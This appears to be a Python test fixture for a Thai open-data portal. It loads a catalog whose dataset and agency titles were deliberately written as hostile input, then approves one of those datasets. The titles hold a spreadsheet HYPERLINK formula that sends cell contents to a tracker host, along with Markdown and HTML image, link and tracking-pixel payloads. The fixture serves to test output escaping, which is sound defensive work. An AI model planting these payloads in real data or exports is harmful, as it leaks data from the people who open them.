"""The tiny portal with titles an attacker wrote: Markdown, HTML and a spreadsheet formula."""

from __future__ import annotations

import json
from pathlib import Path

from tests.views import site


def dataset_title(tracker: str) -> str:
    """Return covid-daily's hostile title: a formula first, then every kind of markup."""
    return (
        f'=HYPERLINK("{tracker}/csv?d="&A2,"x") ![px]({tracker}/pixel.png)'
        f' [คลิก]({tracker}/link) <a href="{tracker}/a">A</a> <img src="{tracker}/img.png">'
        " :red[แดง] $x^2$ &lt;b&gt; โควิด"
    )


def agency_title(tracker: str) -> str:
    """Return ddc's hostile title."""
    return f'<b>กรมควบคุมโรค</b> <a href="{tracker}/agency">ลิงก์</a> ![]({tracker}/agency.png)'


def load(db: Path, work: Path, tracker: str) -> Path:
    """Build the tiny portal with hostile titles through the real catalog and logs ingest."""
    from ingest.catalog import load_catalog
    from ingest.logs import ingest_logs

    packages = []
    for name in site.DATASETS:
        package = site.package(name)
        if package["organization"]["name"] == "ddc":
            package["organization"]["title"] = agency_title(tracker)
        if name == "covid-daily":
            package["title"] = dataset_title(tracker)
            package["resources"][0]["format"] = f'<a href="{tracker}/fmt">CSV</a>'
        packages.append(package)
    catalog = work / "catalog.json"
    body = {"success": True, "result": {"count": len(packages), "results": packages}}
    catalog.write_text(json.dumps(body, ensure_ascii=False), encoding="utf-8")
    load_catalog(db, [catalog])
    ingest_logs(db, [site.access_log(work / "access.log")])
    return db


def approve_winner(db: Path, tracker: str) -> None:
    """Approve covid-daily, hostile titles and all, as a winner of FY 2566 (not announced)."""
    from decisions.auth import User
    from decisions.store import DecisionStore

    staff = User("demo", "staff")
    store = DecisionStore.beside(db)
    decision = store.propose(
        staff,
        2566,
        "valuable-datasets",
        "covid-daily",
        dataset_title(tracker),
        "hostile title test",
        agency="ddc",
        agency_title=agency_title(tracker),
    )
    store.approve(staff, decision, "checked")
